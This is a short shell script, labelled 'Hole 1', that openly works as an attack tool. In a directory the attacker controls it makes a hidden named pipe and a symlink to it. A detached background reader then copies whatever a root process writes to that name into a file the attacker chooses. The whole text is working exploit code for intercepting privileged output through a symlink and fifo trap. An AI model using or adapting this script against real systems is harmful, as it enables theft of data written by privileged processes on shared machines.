#!/bin/sh
# Hole 1: in DIR (the attacker's), make NAME a link to a fifo they read from, so that a
# root who writes NAME there sends its output to them; STOLEN receives what they read.
# Usage: output_trap.sh DIR NAME STOLEN
set -eu
dir=$1 name=$2 stolen=$3
mkfifo "$dir/.pipe-$name"
ln -s ".pipe-$name" "$dir/$name"
# The reader waits (at most 60 s) for root to open the fifo for writing; detached from
# this script's output, so whoever ran the script is not kept waiting for it.
(timeout 60 cat "$dir/.pipe-$name" > "$stolen" || true) </dev/null >/dev/null 2>&1 &
